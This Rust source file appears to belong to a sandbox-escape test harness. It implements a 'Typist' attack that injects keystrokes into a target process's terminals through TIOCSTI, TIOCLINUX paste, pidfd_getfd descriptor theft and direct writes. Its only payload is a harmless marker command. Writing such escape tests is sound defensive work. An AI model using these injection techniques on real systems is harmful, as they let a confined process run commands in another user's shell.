//! The typist: types into every terminal that it can get hold of, by TIOCSTI, TIOCLINUX and plain writes.

use std::ffi::c_int;
use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;

use super::{Attack, Told};
use crate::system::*;

pub struct Typist;

const TIOCSTI: u64 = 0x5412;
const TIOCLINUX: u64 = 0x541c;
const TCGETS: u64 = 0x5401;
/// O_NONBLOCK and O_NOCTTY; then without the second, to make it the controlling terminal.
const FLAGS: [c_int; 2] = [0o4400, 0o4000];
/// What is typed: a test looks for it on the operator's terminal.
const WORD: &[u8] = b"echo typed-by-the-target\n";

impl Attack for Typist {
    fn on(&mut self, pid: i32, told: &mut Told) {
        let mut paths: Vec<String> = (0..3).map(|number| format!("/proc/{pid}/fd/{number}")).collect();
        paths.push("/dev/tty".into());
        paths.push("/dev/console".into());
        let terminals = fs::read_dir("/dev/pts").into_iter().flatten().flatten();
        paths.extend(terminals.map(|entry| entry.path().display().to_string()));
        for path in paths {
            for flags in FLAGS {
                let opened = fs::OpenOptions::new().read(true).write(true).custom_flags(flags).open(&path);
                if let Ok(file) = opened {
                    type_into(file.as_raw_fd(), &path.replace(&pid.to_string(), "N"), told);
                }
            }
        }
        let pidfd = unsafe { syscall(434, i64::from(pid), 0_i64) };
        for number in 0..3_i64 {
            let taken = unsafe { syscall(438, pidfd, number, 0_i64) } as c_int;
            if taken >= 0 {
                type_into(taken, "pidfd_getfd", told);
                unsafe { close(taken) };
            }
        }
        unsafe { close(pidfd as c_int) };
        // Its own, should there be any.
        for fd in 0..3 {
            type_into(fd, "its own", told);
        }
    }
}

fn type_into(fd: c_int, from: &str, told: &mut Told) {
    let mut modes = [0_u8; 64];
    if unsafe { ioctl(fd, TCGETS, modes.as_mut_ptr()) } != 0 {
        // A pipe of the child's: worth a word, but no terminal.
        return told.say(format!("opened {from}: no terminal"));
    }
    told.say(format!("got a terminal: {from}"));
    let typed = WORD.iter().all(|byte| unsafe { ioctl(fd, TIOCSTI, byte as *const u8) } == 0);
    told.say(format!("TIOCSTI at {from}: {typed}"));
    // Paste the selection.
    let paste = [3_u8];
    let pasted = unsafe { ioctl(fd, TIOCLINUX, paste.as_ptr()) } == 0;
    told.say(format!("TIOCLINUX at {from}: {pasted}"));
    unsafe { write(fd, WORD.as_ptr(), WORD.len()) };
}
